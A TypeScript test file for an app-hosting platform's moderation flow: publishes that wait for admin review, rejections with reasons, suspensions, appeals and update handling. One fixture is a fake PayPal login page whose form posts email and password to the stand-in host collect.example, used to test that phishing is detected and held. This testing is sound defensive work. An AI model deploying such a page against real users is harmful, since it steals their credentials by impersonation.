/** Versions that wait for an admin, through HTTP, on each database (PUB-22, PUB-23, PUB-37, PERM-19 to PERM-24, PERM-30). */
import sharp from 'sharp'
import { beforeAll, expect, test } from 'vitest'
import { commitFiles, draftApp } from '../../../server/testing/apps.ts'
import { Person, signedUp, signIn } from '../../../server/testing/people.ts'
import { onEachDatabase, type TestServer } from '../../../server/testing/test-server.ts'
import { changeApp, readApp } from '../../apps/contract.ts'
import * as moderation from '../../moderation/contract.ts'
import { listNotifications } from '../../notifications/contract.ts'
import { appeal, publishApp, readLiveState } from '../contract.ts'

const reason = 'The picture is not yours'
const phishing = {
  'index.html':
    '<!doctype html><title>PayPal - Log in</title><h1>PayPal</h1><form action="https://collect.example/in" method="post"><input name="mail"><input type="password" name="key"></form>',
}

/** An owner, an admin and a visitor at a server, and what they do there. */
function peopleAt(server: () => TestServer) {
  let rosa: Person
  let ada: Person
  let visitor: Person
  let number = 0
  beforeAll(async () => {
    rosa = await signedUp(server(), 'rosa')
    ada = await signedUp(server(), 'ada')
    visitor = new Person(server(), 'visitor')
  }, 60_000)
  const draft = (files: Record<string, string> = { 'index.html': '<h1>One</h1>' }) =>
    draftApp(ada, `app-${(number += 1)}`, files)
  const statusOf = async (id: string) => (await ada.calls(readApp, { id })).body.app.status
  const publish = async (id: string) => (await ada.calls(publishApp, { id })).body
  const queue = async () => (await rosa.calls(moderation.listReview, {})).body.entries
  const entryOf = async (id: string) => {
    const entry = (await queue()).find(({ app }) => app._id === id)
    if (!entry) throw new Error('it does not wait')
    return entry
  }
  const decide = async (id: string, act: 'approve' | 'reject', versionId?: string) => {
    const version = versionId ?? (await entryOf(id)).versionId
    return act === 'approve'
      ? rosa.calls(moderation.approveVersion, { id, versionId: version })
      : rosa.calls(moderation.rejectVersion, { id, versionId: version, reason })
  }
  const bodyOf = async (url: string) => {
    const answer = await server().request(url)
    return answer.status === 200 ? answer.text() : answer.status
  }
  const submissionOf = async (id: string) =>
    (await ada.calls(readLiveState, { id })).body.submission
  const told = async () =>
    (await ada.calls(listNotifications, {})).body.notifications.map(({ kind, app, text }) => [
      kind,
      app?._id,
      text,
    ])
  const again = (html: string) => commitFiles(ada, `app-${number}`, { 'index.html': html })
  return {
    people: () => ({ ada, rosa, visitor }),
    draft,
    again,
    statusOf,
    publish,
    queue,
    entryOf,
    decide,
    bodyOf,
    submissionOf,
    told,
  }
}

onEachDatabase(
  'review before publish',
  (server) => {
    const {
      people,
      draft,
      again,
      statusOf,
      publish,
      queue,
      entryOf,
      decide,
      bodyOf,
      submissionOf,
      told,
    } = peopleAt(server)

    test('a publish waits; nobody sees it, its name is held, and the owner may take it back [PUB-23] [PERM-20] [PUB-22]', async () => {
      const { ada, visitor } = people()
      const id = await draft()
      const sent = await publish(id)
      expect([sent.status, sent.held, sent.publishedAt]).toEqual(['review', true, null])
      expect(await bodyOf(sent.cloudflareUrl)).toBe(410)
      expect((await visitor.calls(readApp, { id })).status).toBe(404)
      const other = await draft()
      const taken = await ada.calls(publishApp, { id: other, subdomain: sent.subdomain })
      expect([taken.status, taken.body.code]).toEqual([409, 'subdomainTaken'])
      expect((await ada.calls(publishApp, { id })).body.code).toBe('invalidTransition')
      await ada.calls(changeApp, { id, status: 'draft' })
      expect([await statusOf(id), await submissionOf(id)]).toEqual(['draft', null])
      expect((await queue()).some(({ app }) => app._id === id)).toBe(false)
      expect((await publish(id)).status).toBe('review')
    })

    test('the queue has the oldest first, each with author, time and a preview on an origin of its own [PERM-22] [LIM-74]', async () => {
      const first = await draft({ 'index.html': '<h1>First</h1>' })
      await publish(first)
      server().pass(1_000)
      const second = await draft()
      await publish(second)
      const ids = (await queue()).map(({ app }) => app._id)
      expect(ids.indexOf(first)).toBeLessThan(ids.indexOf(second))
      const entry = await entryOf(first)
      expect(entry).toMatchObject({ author: { username: 'ada' }, cause: 'review', isUpdate: false })
      expect(await bodyOf(entry.previewUrl)).toBe('<h1>First</h1>')
      const forged = entry.previewUrl.replace(/-[0-9a-f]{16}\./, `-${'0'.repeat(16)}.`)
      expect(await bodyOf(forged)).toBe(404)
      await decide(first, 'reject')
      expect(await bodyOf(entry.previewUrl)).toBe(404)
    })

    test('approved is exactly what was submitted; what changed since is a new submission [PERM-23] [PUB-22]', async () => {
      const { ada } = people()
      const id = await draft()
      const sent = await publish(id)
      const { versionId } = await entryOf(id)
      await ada.calls(changeApp, { id, status: 'draft' })
      await again('<h1>Two</h1>')
      await publish(id)
      expect((await decide(id, 'approve', versionId)).status).toBe(412)
      await again('<h1>Three</h1>')
      expect((await decide(id, 'approve')).status).toBe(200)
      expect([await statusOf(id), await bodyOf(sent.cloudflareUrl)]).toEqual([
        'published',
        '<h1>Two</h1>',
      ])
      expect(await told()).toContainEqual(['approved', id, null])
      expect((await decide(id, 'approve', versionId)).status).toBe(404)
    })

    test('a rejection tells its reason, and the owner may change the app and send it again [PERM-24] [PUB-22]', async () => {
      const { ada, rosa } = people()
      const id = await draft()
      await publish(id)
      expect((await decide(id, 'reject')).status).toBe(200)
      const mine = (await ada.calls(readApp, { id })).body.app
      expect([mine.status, mine.rejectedReason]).toEqual(['rejected', reason])
      expect(await told()).toContainEqual(['rejected', id, reason])
      const short = { id, versionId: id, reason: 'no' }
      expect((await rosa.calls(moderation.rejectVersion, short)).status).toBe(400)
      expect((await publish(id)).status).toBe('review')
    })

    test('what waits of an author who is suspended is published only once that is lifted [PERM-31] [PUB-22]', async () => {
      const { ada, rosa } = people()
      const { userId } = ada
      const id = await draft()
      const { cloudflareUrl } = await publish(id)
      const { versionId } = await entryOf(id)
      await rosa.calls(moderation.suspendUser, { userId, reason })
      expect((await queue()).some(({ app }) => app._id === id)).toBe(false)
      const refused = await decide(id, 'approve', versionId)
      expect([refused.status, refused.body.error]).toEqual([
        403,
        `This account is suspended: ${reason}`,
      ])
      await rosa.calls(moderation.liftSuspension, { userId })
      await server().server.outbox.idle()
      await signIn(ada)
      expect([await statusOf(id), await bodyOf(cloudflareUrl)]).toEqual(['review', 410])
      expect((await decide(id, 'approve')).status).toBe(200)
      expect(await bodyOf(cloudflareUrl)).toBe('<h1>One</h1>')
    })

    test('an update that waits when its author is suspended waits on once that is lifted [PERM-31] [PERM-21]', async () => {
      const { ada, rosa } = people()
      const { userId } = ada
      const id = await draft()
      const { cloudflareUrl } = await publish(id)
      await decide(id, 'approve')
      await again('<h1>Two</h1>')
      await publish(id)
      const { versionId } = await entryOf(id)
      await rosa.calls(moderation.suspendUser, { userId, reason })
      // It is not the suspended who asks for an archived app back.
      expect((await queue()).some(({ app }) => app._id === id)).toBe(false)
      expect((await decide(id, 'approve', versionId)).status).toBe(409)
      await rosa.calls(moderation.liftSuspension, { userId })
      await server().server.outbox.idle()
      await signIn(ada)
      expect(await submissionOf(id)).toMatchObject({ state: 'waiting' })
      expect(await bodyOf(cloudflareUrl)).toBe('<h1>One</h1>')
      await decide(id, 'approve')
      expect(await bodyOf(cloudflareUrl)).toBe('<h1>Two</h1>')
    })

    test('the picture of an update is shown to the admin, and to all once it is approved; swept it is not meanwhile [PERM-21] [PUB-18]', async () => {
      const { ada } = people()
      const id = await draft()
      const picturedIn = async (colour: string) => {
        const png = await sharp({
          create: { width: 8, height: 6, channels: 3, background: colour },
        })
          .png()
          .toBuffer()
        const snapshot = `data:image/png;base64,${png.toString('base64')}`
        return (await ada.calls(publishApp, { id, snapshot })).body
      }
      const shown = async () => (await ada.calls(readApp, { id })).body.app.snapshot
      await picturedIn('red')
      await decide(id, 'approve')
      const red = await shown()
      // What is live already is not given another look that nobody approved.
      await picturedIn('yellow')
      expect(await shown()).toBe(red)
      await again('<h1>Two</h1>')
      await picturedIn('blue')
      expect(await shown()).toBe(red)
      const { picture } = await entryOf(id)
      const days = 3
      for (let day = 0; day < days; day += 1) {
        server().pass(25 * 3_600_000)
        await server().server.jobs.sweep()
      }
      await signIn(ada)
      await signIn(people().rosa)
      expect((await server().request(picture ?? '')).status).toBe(200)
      expect((await server().request((picture ?? '').split('?')[0] ?? '')).status).toBe(404)
      await decide(id, 'approve')
      expect(await shown()).toBe((picture ?? '').split('?')[0])
      expect((await server().request((await shown()) ?? '')).status).toBe(200)
    })

    test('an update keeps the approved version live until it is approved; rejected, it stays live [PERM-21] [PUB-23] [PERM-24]', async () => {
      const id = await draft()
      const { cloudflareUrl } = await publish(id)
      await decide(id, 'approve')
      await again('<h1>Two</h1>')
      const sent = await publish(id)
      expect([sent.status, sent.held, await bodyOf(cloudflareUrl)]).toEqual([
        'published',
        true,
        '<h1>One</h1>',
      ])
      expect((await entryOf(id)).isUpdate).toBe(true)
      await decide(id, 'reject')
      expect([await statusOf(id), await bodyOf(cloudflareUrl)]).toEqual([
        'published',
        '<h1>One</h1>',
      ])
      expect(await submissionOf(id)).toMatchObject({ state: 'rejected', reason })
      await publish(id)
      await decide(id, 'approve')
      expect([await bodyOf(cloudflareUrl), await submissionOf(id)]).toEqual(['<h1>Two</h1>', null])
    })
  },
  {
    env: { ADMINS: 'builtin:rosa', REVIEW_BEFORE_PUBLISH: 'true' },
  },
)

onEachDatabase(
  'no review before publish',
  (server) => {
    const { people, draft, again, publish, queue, entryOf, decide, bodyOf, submissionOf, told } =
      peopleAt(server)

    test('without a review an app is live at once [PERM-19]', async () => {
      const { status, held, cloudflareUrl } = await publish(await draft())
      expect([status, held, await bodyOf(cloudflareUrl)]).toEqual([
        'published',
        false,
        '<h1>One</h1>',
      ])
    })

    test('what looks like phishing is held all the same, with its reason; its owner asks for a review and an admin decides: threat T42 [PUB-37] [PERM-30]', async () => {
      const { ada } = people()
      const id = await draft(phishing)
      const sent = await publish(id)
      expect([sent.status, sent.held, await bodyOf(sent.cloudflareUrl)]).toEqual([
        'review',
        true,
        410,
      ])
      expect(await submissionOf(id)).toMatchObject({
        state: 'waiting',
        cause: 'check',
        findings: [{ kind: 'credentials', path: 'index.html' }],
        isAppealed: false,
      })
      const asked = await ada.calls(appeal, { id, text: 'It is an exercise' })
      expect(asked.body.submission.isAppealed).toBe(true)
      const entry = await entryOf(id)
      expect([entry.isAppealed, entry.appeal]).toEqual([true, 'It is an exercise'])
      expect((await decide(id, 'approve')).status).toBe(200)
      expect(await bodyOf(sent.cloudflareUrl)).toContain('PayPal')
    })

    test('the owner of an archived app asks for it back, and an admin restores it or says no [PUB-37] [PERM-25]', async () => {
      const { ada, rosa } = people()
      const id = await draft()
      await publish(id)
      expect((await ada.calls(appeal, { id })).status).toBe(409)
      await rosa.calls(moderation.takeDownApp, { id, reason })
      await ada.calls(appeal, { id, text: 'I drew it' })
      const entry = await entryOf(id)
      expect([entry.isArchived, entry.appeal]).toEqual([true, 'I drew it'])
      expect((await decide(id, 'approve')).status).toBe(409)
      for (const times of [1, 2]) {
        await decide(id, 'reject')
        expect(await submissionOf(id)).toMatchObject({ state: 'rejected', reason })
        const refusals = (await told()).filter(([kind, app]) => kind === 'rejected' && app === id)
        expect(refusals).toHaveLength(times)
        expect((await ada.calls(appeal, { id, text: 'Look again' })).status).toBe(200)
        expect(await entryOf(id)).toMatchObject({ isAppealed: true, appeal: 'Look again' })
        // Of one hour there is one entry.
        server().pass(2 * 3_600_000)
        for (const who of [ada, rosa]) await signIn(who)
      }
      await rosa.calls(moderation.restoreApp, { id })
      expect((await queue()).some(({ app }) => app._id === id)).toBe(false)
      expect((await publish(id)).status).toBe('published')
    })

    test('what was archived out of the queue, before it ever was live, can be asked for as well [PUB-37] [PERM-25]', async () => {
      const { ada, rosa } = people()
      const id = await draft(phishing)
      await publish(id)
      await rosa.calls(moderation.archiveApp, { id, reason })
      expect((await ada.calls(appeal, { id, text: 'It is an exercise' })).status).toBe(200)
      expect(await entryOf(id)).toMatchObject({ isArchived: true, appeal: 'It is an exercise' })
    })

    test('an update that looks like phishing leaves what is live [PUB-37]', async () => {
      const id = await draft()
      const { cloudflareUrl } = await publish(id)
      await again(phishing['index.html'])
      const sent = await publish(id)
      expect([sent.status, sent.held, await bodyOf(cloudflareUrl)]).toEqual([
        'published',
        true,
        '<h1>One</h1>',
      ])
    })
  },
  { env: { ADMINS: 'builtin:rosa' } },
)
